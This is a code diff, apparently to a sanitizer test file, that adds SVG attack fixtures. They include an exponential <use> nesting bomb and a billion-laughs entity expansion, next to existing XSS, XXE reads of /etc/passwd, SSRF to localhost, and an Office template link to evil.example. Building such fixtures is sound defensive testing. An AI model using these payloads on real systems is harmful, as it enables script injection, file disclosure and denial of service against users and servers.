@@ -118,8 +118,27 @@ const svgs = [
   '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
   '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
   `<!--${'x'.repeat(5000)}--><svg\nonload="alert(1)"/>`,
+  ...nested(),
   '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
 ]
+
+/** Each part repeats the one before ten times. */
+function nested(): string[] {
+  const uses = Array.from(
+    { length: 12 },
+    (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`,
+  ).join('')
+  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
+    '',
+  )
+  return [
+    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><g id="l0"><path d="M0 0h9v9z"/></g>${uses}</defs><use href="#l12"/></svg>`,
+    `<!DOCTYPE svg [<!ENTITY l0 "ja">${laughs}]><svg viewBox="0 0 9 9"><path id="&l9;"/></svg>`,
+    '<svg viewBox="0 0 9 9"><use xlink:href="file:///etc/passwd"/></svg>',
+    '<svg viewBox="0 0 9 9"><image href="http://127.0.0.1/a.png"/></svg>',
+    '<svg viewBox="0 0 9 9"><path d="M0 0h9v9z"/><animate attributeName="href" to="javascript:alert(1)"/></svg>',
+  ]
+}
 
 const template =
   '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
